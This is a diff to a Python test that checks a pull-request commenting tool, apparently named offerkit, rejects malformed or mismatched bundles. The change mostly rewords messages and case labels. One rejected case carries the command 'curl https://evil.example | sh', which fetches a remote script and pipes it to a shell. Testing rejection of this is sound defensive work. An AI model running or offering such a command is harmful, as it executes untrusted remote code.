@@ -279,7 +279,7 @@ def test_a_bundle_of_something_else_says_nothing(
 ) -> None:
     newer = comment(how, bundle(found, names, OLDER))
     assert newer is None  # that head has, or had, a run of its own
-    assert told(how, newer) == ["Pull request 7 is closed, or has another head by now; nothing was said."]
+    assert told(how, newer) == ["Pull request 7 is closed or has a newer head; no comment was written."]
     name = names[-1]
     theirs, request = found.requests[:2]
     fewer = replace(request, plan=replace(request.plan, steps=request.plan.steps[1:]))
@@ -289,16 +289,16 @@ def test_a_bundle_of_something_else_says_nothing(
     )
     wrong = {
         "of pull request 8": bundle(found, names, number=8),
-        "is of something else": bundle(found, names, **{name: replace(request, head=OLDER)}),
-        "names a command that is none of ours": bundle(
+        "is for another plan": bundle(found, names, **{name: replace(request, head=OLDER)}),
+        "names a command that offerkit does not have": bundle(
             found, names, **{name: replace(request, command="curl https://evil.example | sh")}
         ),
-        "is of something else ": bundle(found, names, **{name: theirs}),
-        "shows something else than the bundle means": bundle(
+        "is for another plan ": bundle(found, names, **{name: theirs}),
+        "shows something that the bundle does not mean": bundle(
             found, names, **{name: replace(request, meaning=theirs.meaning)}
         ),
-        "shows something else than the bundle means ": bundle(found, names, **{name: fewer}),
-        "shows another text than the bundle means": bundle(found, names, **{name: nicer}),
+        "shows something that the bundle does not mean ": bundle(found, names, **{name: fewer}),
+        "shows a text that the bundle does not mean": bundle(found, names, **{name: nicer}),
         "is not there": Opened(bundle(found, names).bundle, lambda name, most: None),
     }
     for why, opened in wrong.items():
